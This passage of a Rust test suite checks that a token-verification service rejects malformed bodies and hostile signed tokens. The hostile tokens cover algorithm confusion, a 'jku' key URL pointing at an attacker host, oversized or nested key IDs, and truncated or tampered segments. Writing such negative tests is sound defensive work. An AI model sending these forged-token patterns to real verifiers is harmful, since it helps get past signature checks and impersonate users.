        ("an array", Body::Text("[]".into()), "application/json", &[400]),
        (
            "a number for the code",
            Body::Text("{\"code\": 7}".into()),
            "application/json",
            &[400],
        ),
        ("no code", Body::Text("{}".into()), "application/json", &[400]),
    ] {
        let response = code::handle(&w.code, verify(Some(&key), bad_body, content_type)).await;
        check(&format!("verify with {attack}"), response, expected);
    }

    // Hostile codes: a valid key gets `valid: false`, a guard gets 422.
    let claims = bj.claims("green", NOW);
    let good = bj.eddsa(&claims);
    let jws = good.trim_start_matches(partner::PREFIX).to_owned();
    let segments: Vec<&str> = jws.split('.').collect();
    let enc = |v: &Value| B64.encode(v.to_string());
    let mut hostile: Vec<String> = INJECTIONS.iter().map(|s| s.to_string()).collect();
    hostile.extend([
        "龘".repeat(4_000),
        format!("{}{}", partner::PREFIX, "a.".repeat(3_000)),
        format!("{}{}.{}.{}", partner::PREFIX, enc(&json!({"alg": "EdDSA", "kid": "k".repeat(5_000)})), segments[1], segments[2]),
        format!("{}{}.{}.{}", partner::PREFIX, enc(&json!({"alg": "EdDSA", "kid": {"nested": [1, 2]}})), segments[1], segments[2]),
        format!("{}{}.{}.{}", partner::PREFIX, enc(&json!({"alg": "RS256", "kid": partner::ED_KID})), segments[1], segments[2]),
        format!("{}{}.{}.{}", partner::PREFIX, enc(&json!({"alg": "EdDSA", "kid": partner::ED_KID, "jku": "https://attacker/jwks.json"})), segments[1], segments[2]),
        format!("{}{}.{}.{}", partner::PREFIX, segments[0], enc(&json!({"iss": partner::ISSUER, "sub": "x".repeat(5_000), "col": "green", "exp": NOW.unix_timestamp() + 60})), segments[2]),
        format!("{}{}.{}", partner::PREFIX, segments[0], segments[1]),
        format!("{}{jws}.extra", partner::PREFIX),
        format!("HBHC:1:{jws}"),
        format!("{}{}", partner::PREFIX, qr.trim_start_matches("HBHC:1:")),
        format!("{}HBHC:1:{jws}", partner::PREFIX),
    ]);
    for code in &hostile {
        let (status, answer) = parts(code::handle(&w.code, verify(Some(&key), body(code), "application/json")).await);
        assert_eq!(status, 200, "verify of {code:.40}: {answer}");
        assert_eq!(answer["valid"], false, "verify of {code:.40}");
        let response = scan::handle(
            &w.scan,
            request("POST", "/v1/scans", Some(json!({ "code": code })), Some(&guard)),
        )
        .await;
        check(&format!("a scan of {code:.40}"), response, &[422]);
    }
    assert_eq!(snapshot(&w.store).await, before, "hostile calls stored nothing");
}
